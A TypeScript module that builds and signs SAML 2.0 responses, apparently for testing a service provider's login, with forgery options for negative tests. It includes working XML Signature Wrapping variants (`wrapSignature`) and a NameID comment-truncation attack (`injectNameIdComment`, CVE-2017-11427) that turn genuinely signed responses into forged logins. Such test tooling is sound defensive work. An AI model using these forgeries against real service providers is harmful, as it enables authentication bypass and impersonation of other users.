// SAML 2.0 Responses, built and signed in one place: the local IdP sends what
// `buildSamlResponse` makes with its defaults, and attack tests forge with the same function and
// other options (unsigned, expired, another audience, no InResponseTo...). `wrapSignature` and
// `injectNameIdComment` turn a genuinely signed response into the two classic attacks on SAML
// service providers. Pure functions: no I/O, only random IDs.
import { randomBytes } from 'node:crypto';
import { DOMParser, XMLSerializer } from '@xmldom/xmldom';
import { SignedXml } from 'xml-crypto';

export const SAML_NS = { protocol: 'urn:oasis:names:tc:SAML:2.0:protocol', assertion: 'urn:oasis:names:tc:SAML:2.0:assertion' };
const DSIG_NS = 'http://www.w3.org/2000/09/xmldsig#';

export const SAML_STATUS = {
  success: 'urn:oasis:names:tc:SAML:2.0:status:Success',
  requester: 'urn:oasis:names:tc:SAML:2.0:status:Requester',
  responder: 'urn:oasis:names:tc:SAML:2.0:status:Responder',
  authnFailed: 'urn:oasis:names:tc:SAML:2.0:status:AuthnFailed',
  noPassive: 'urn:oasis:names:tc:SAML:2.0:status:NoPassive',
} as const;

export const NAMEID_FORMAT_EMAIL = 'urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress';
const ATTRNAME_FORMAT_BASIC = 'urn:oasis:names:tc:SAML:2.0:attrname-format:basic';
const PASSWORD_PROTECTED = 'urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport';

export interface SamlResponseOptions {
  idpEntityId: string;
  /** PEM; signs whatever `sign` asks for. */
  privateKey: string;
  /** PEM; sent in the signatures' KeyInfo. */
  certificate: string;
  acsUrl: string;
  /** The SP entity id: the only Audience of the assertion. */
  audience: string;
  nameId: string;
  /** Defaults to emailAddress. */
  nameIdFormat?: string;
  /** Arrays become one AttributeValue each (an empty array: an Attribute with no value). */
  attributes?: Record<string, string | string[]>;
  /** The AuthnRequest's ID; absent for IdP-initiated sign-in (then neither Response nor SubjectConfirmationData carries one). */
  inResponseTo?: string;
  responseId?: string;
  assertionId?: string;
  sessionIndex?: string;
  /** Conditions@NotBefore; default issueInstant - 1 min. */
  notBefore?: Date;
  /** Conditions@NotOnOrAfter and SubjectConfirmationData@NotOnOrAfter; default issueInstant + 5 min. */
  notOnOrAfter?: Date;
  /** Response, Assertion IssueInstant and AuthnInstant; default now. */
  issueInstant?: Date;
  /** Response@Destination; default acsUrl. */
  destination?: string;
  /** SubjectConfirmationData@Recipient; default acsUrl. */
  recipient?: string;
  /** Default: both signed (the assertion first, then the response around it). */
  sign?: { response: boolean; assertion: boolean };
  /** Top-level StatusCode; default Success. */
  status?: string;
  /** A nested StatusCode, e.g. SAML_STATUS.authnFailed. */
  subStatus?: string;
  statusMessage?: string;
  /** Default: an assertion only with status Success. */
  withAssertion?: boolean;
}

export const newSamlId = () => `_${randomBytes(20).toString('hex')}`;

/** The response as the HTTP-POST binding carries it (`SAMLResponse`). */
export const encodeSamlResponse = (xml: string) => Buffer.from(xml, 'utf8').toString('base64');
export const decodeSamlResponse = (samlResponse: string) => Buffer.from(samlResponse, 'base64').toString('utf8');

export function buildSamlResponse(o: SamlResponseOptions): string {
  const now = o.issueInstant ?? new Date();
  const status = o.status ?? SAML_STATUS.success;
  const withAssertion = o.withAssertion ?? status === SAML_STATUS.success;
  const sign = o.sign ?? { response: true, assertion: true };
  let xml =
    `<samlp:Response xmlns:samlp="${SAML_NS.protocol}" xmlns:saml="${SAML_NS.assertion}" ID="${esc(o.responseId ?? newSamlId())}" Version="2.0"` +
    ` IssueInstant="${instant(now)}" Destination="${esc(o.destination ?? o.acsUrl)}"${o.inResponseTo ? ` InResponseTo="${esc(o.inResponseTo)}"` : ''}>` +
    `<saml:Issuer>${esc(o.idpEntityId)}</saml:Issuer>` +
    statusXml(status, o.subStatus, o.statusMessage) +
    (withAssertion ? assertionXml(o, now) : '') +
    `</samlp:Response>`;
  if (withAssertion && sign.assertion) xml = signElement(xml, ASSERTION_XPATH, o);
  if (sign.response) xml = signElement(xml, RESPONSE_XPATH, o);
  return xml;
}

function statusXml(status: string, subStatus?: string, message?: string) {
  const sub = subStatus ? `<samlp:StatusCode Value="${esc(subStatus)}"/>` : '';
  return (
    `<samlp:Status><samlp:StatusCode Value="${esc(status)}"${sub ? `>${sub}</samlp:StatusCode>` : '/>'}` +
    `${message ? `<samlp:StatusMessage>${esc(message)}</samlp:StatusMessage>` : ''}</samlp:Status>`
  );
}

function assertionXml(o: SamlResponseOptions, now: Date) {
  const notBefore = o.notBefore ?? new Date(now.getTime() - 60_000);
  const notOnOrAfter = o.notOnOrAfter ?? new Date(now.getTime() + 5 * 60_000);
  const inResponseTo = o.inResponseTo ? ` InResponseTo="${esc(o.inResponseTo)}"` : '';
  return (
    `<saml:Assertion xmlns:saml="${SAML_NS.assertion}" xmlns:xs="http://www.w3.org/2001/XMLSchema" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"` +
    ` ID="${esc(o.assertionId ?? newSamlId())}" Version="2.0" IssueInstant="${instant(now)}">` +
    `<saml:Issuer>${esc(o.idpEntityId)}</saml:Issuer>` +
    `<saml:Subject><saml:NameID Format="${esc(o.nameIdFormat ?? NAMEID_FORMAT_EMAIL)}">${esc(o.nameId)}</saml:NameID>` +
    `<saml:SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer">` +
    `<saml:SubjectConfirmationData${inResponseTo} NotOnOrAfter="${instant(notOnOrAfter)}" Recipient="${esc(o.recipient ?? o.acsUrl)}"/>` +
    `</saml:SubjectConfirmation></saml:Subject>` +
    `<saml:Conditions NotBefore="${instant(notBefore)}" NotOnOrAfter="${instant(notOnOrAfter)}">` +
    `<saml:AudienceRestriction><saml:Audience>${esc(o.audience)}</saml:Audience></saml:AudienceRestriction></saml:Conditions>` +
    `<saml:AuthnStatement AuthnInstant="${instant(now)}" SessionIndex="${esc(o.sessionIndex ?? newSamlId())}">` +
    `<saml:AuthnContext><saml:AuthnContextClassRef>${PASSWORD_PROTECTED}</saml:AuthnContextClassRef></saml:AuthnContext></saml:AuthnStatement>` +
    attributesXml(o.attributes ?? {}) +
    `</saml:Assertion>`
  );
}

function attributesXml(attributes: Record<string, string | string[]>) {
  const entries = Object.entries(attributes);
  if (entries.length === 0) return '';
  const attribute = ([name, value]: [string, string | string[]]) =>
    `<saml:Attribute Name="${esc(name)}" NameFormat="${ATTRNAME_FORMAT_BASIC}">` +
    [value].flat().map((v) => `<saml:AttributeValue xsi:type="xs:string">${esc(v)}</saml:AttributeValue>`).join('') +
    `</saml:Attribute>`;
  return `<saml:AttributeStatement>${entries.map(attribute).join('')}</saml:AttributeStatement>`;
}

const RESPONSE_XPATH = "/*[local-name(.)='Response' and namespace-uri(.)='urn:oasis:names:tc:SAML:2.0:protocol']";
const ASSERTION_XPATH = `${RESPONSE_XPATH}/*[local-name(.)='Assertion' and namespace-uri(.)='urn:oasis:names:tc:SAML:2.0:assertion']`;

/** Enveloped RSA-SHA256 signature with exclusive c14n, placed right after the element's Issuer (schema order). */
function signElement(xml: string, elementXpath: string, keys: { privateKey: string; certificate: string }) {
  const signer = new SignedXml({
    privateKey: keys.privateKey,
    publicCert: keys.certificate,
    signatureAlgorithm: 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256',
    canonicalizationAlgorithm: 'http://www.w3.org/2001/10/xml-exc-c14n#',
  });
  signer.addReference({
    xpath: elementXpath,
    transforms: ['http://www.w3.org/2000/09/xmldsig#enveloped-signature', 'http://www.w3.org/2001/10/xml-exc-c14n#'],
    digestAlgorithm: 'http://www.w3.org/2001/04/xmlenc#sha256',
  });
  signer.computeSignature(xml, { prefix: 'ds', location: { reference: `${elementXpath}/*[local-name(.)='Issuer']`, action: 'after' } });
  return signer.getSignedXml();
}

export type WrapVariant = 'xsw3' | 'xsw4' | 'xsw7';

/**
 * XML Signature Wrapping ("On Breaking SAML", Somorovsky et al. 2012) against the assertion
 * signature. Takes a genuinely signed response, keeps its signed assertion byte-for-byte, and
 * adds an unsigned copy of it with a fresh ID, `evilNameId` as NameID and as the value of every
 * attribute that equalled the old NameID (e.g. `email`). The Response's own signature is dropped:
 * it can never survive the edit, so the attack only fools an SP that accepts an assertion-only
 * signature. Variants, by where the evil assertion goes:
 *  - `xsw3` (default): evil assertion inserted as the FIRST Assertion child of the Response, the
 *    signed one stays after it (a verifier that checks "a signature verifies" then reads the
 *    first Assertion is fooled);
 *  - `xsw4`: the evil assertion replaces the signed one, which moves inside it (as its last child);
 *  - `xsw7`: the evil assertion replaces the signed one, which moves into `samlp:Extensions`.
 */
export function wrapSignature(xml: string, evilNameId: string, variant: WrapVariant = 'xsw3'): string {
  const doc = parseXml(xml);
  const response = doc.documentElement!;
  const signed = childElements(response, SAML_NS.assertion, 'Assertion')[0];
  if (!signed) throw new Error('wrapSignature: the response has no Assertion to wrap');
  childElements(response, DSIG_NS, 'Signature').forEach((s) => response.removeChild(s));

  const evil = signed.cloneNode(true) as Element;
  childElements(evil, DSIG_NS, 'Signature').forEach((s) => evil.removeChild(s));
  evil.setAttribute('ID', newSamlId());
  const nameId = elements(evil, SAML_NS.assertion, 'NameID')[0];
  const original = nameId?.textContent ?? '';
  if (nameId) setText(nameId, evilNameId);
  for (const value of elements(evil, SAML_NS.assertion, 'AttributeValue')) if (value.textContent === original) setText(value, evilNameId);

  if (variant === 'xsw3') {
    response.insertBefore(evil, signed);
  } else if (variant === 'xsw4') {
    response.replaceChild(evil, signed);
    evil.appendChild(signed);
  } else {
    response.replaceChild(evil, signed);
    const extensions = doc.createElementNS(SAML_NS.protocol, 'samlp:Extensions');
    extensions.appendChild(signed);
    response.insertBefore(extensions, childElements(response, SAML_NS.protocol, 'Status')[0] ?? evil);
  }
  return new XMLSerializer().serializeToString(doc);
}

/**
 * The comment-truncation attack (CVE-2017-11427 and siblings): the attacker owns
 * `victim@acme.test.evil.test`, gets a genuinely signed response for it, then turns the NameID
 * into `victim@acme.test<!---->.evil.test`. Exclusive c14n drops comments, so every signature
 * still verifies; an SP that reads only the first text node sees `victim@acme.test`.
 * `visiblePrefix` is what that SP should see; it is applied to the NameID and, unless
 * `attributes: false`, to every AttributeValue that starts with it too (e.g. `email`).
 */
export function injectNameIdComment(xml: string, visiblePrefix: string, options: { attributes?: boolean } = {}): string {
  const doc = parseXml(xml);
  const targets = [
    ...elements(doc, SAML_NS.assertion, 'NameID'),
    ...(options.attributes === false ? [] : elements(doc, SAML_NS.assertion, 'AttributeValue')),
  ];
  let injected = 0;
  for (const el of targets) {
    const text = el.textContent ?? '';
    if (!text.startsWith(visiblePrefix) || text === visiblePrefix) continue;
    while (el.firstChild) el.removeChild(el.firstChild);
    el.appendChild(doc.createTextNode(visiblePrefix));
    el.appendChild(doc.createComment(''));
    el.appendChild(doc.createTextNode(text.slice(visiblePrefix.length)));
    injected++;
  }
  if (injected === 0) throw new Error(`injectNameIdComment: no NameID is longer than and starts with ${visiblePrefix}`);
  return new XMLSerializer().serializeToString(doc);
}

/** Parses XML, throwing on any error (xmldom only reports them by default). */
export function parseXml(xml: string): Document {
  const fail = (msg: string) => {
    throw new Error(`invalid XML: ${msg}`);
  };
  return new DOMParser({ errorHandler: { warning: () => {}, error: fail, fatalError: fail } }).parseFromString(xml, 'text/xml');
}

const childElements = (parent: Element, ns: string, localName: string) =>
  Array.from(parent.childNodes).filter((n): n is Element => n.nodeType === 1 && (n as Element).namespaceURI === ns && (n as Element).localName === localName);

const elements = (root: Document | Element, ns: string, localName: string): Element[] => Array.from(root.getElementsByTagNameNS(ns, localName));

function setText(el: Element, text: string) {
  while (el.firstChild) el.removeChild(el.firstChild);
  el.appendChild(el.ownerDocument!.createTextNode(text));
}

/** xs:dateTime in UTC, whole seconds, as IdPs usually send it. */
const instant = (d: Date) => d.toISOString().replace(/\.\d{3}Z$/, 'Z');

/** Escapes text and attribute values; refuses characters XML 1.0 cannot carry. */
function esc(value: string) {
  if (/[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]/.test(value)) throw new Error('a SAML value contains a character XML cannot carry');
  return value.replace(/[&<>"'\r\n\t]/g, (c) => `&#${c.charCodeAt(0)};`);
}
